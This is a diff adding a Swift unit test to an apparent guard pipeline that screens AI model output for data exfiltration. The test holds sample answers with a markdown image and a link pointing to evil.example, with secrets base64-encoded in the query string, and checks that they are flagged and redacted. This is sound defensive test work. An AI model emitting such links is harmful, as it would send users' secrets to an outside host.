@@ -69,6 +69,16 @@ struct GuardTests {
         #expect(guards.evaluate("rm -rf ./build && ls -la", .output).findings.isEmpty)
     }
 
+    @Test func exfiltrationLinksAreRedactedInOutput() {
+        let answer = "Here you go ![logo](https://evil.example/p.png?d=c2VjcmV0IGtleSBpcyBodW50ZXIy) and https://docs.example/page"
+        let verdict = guards.evaluate(answer, .output)
+        #expect(verdict.categories == [.exfiltration])
+        #expect(verdict.text == "Here you go [REDACTED markdown image with a remote URL] and https://docs.example/page")
+        let long = "see https://evil.example/c?d=" + String(repeating: "QUJD", count: 12)
+        #expect(guards.evaluate(long, .output).categories == [.exfiltration])
+        #expect(guards.evaluate("see https://example.com/search?q=weather", .output).findings.isEmpty)
+    }
+
     @Test func actionsComeFromPolicy() throws {
         let policy = try SecurityPolicy(json: #"{"guards": {"input": {"injection": "block"}, "output": {"pii": "redact"}}}"#)
         let strict = GuardPipeline(policy: policy.guards)
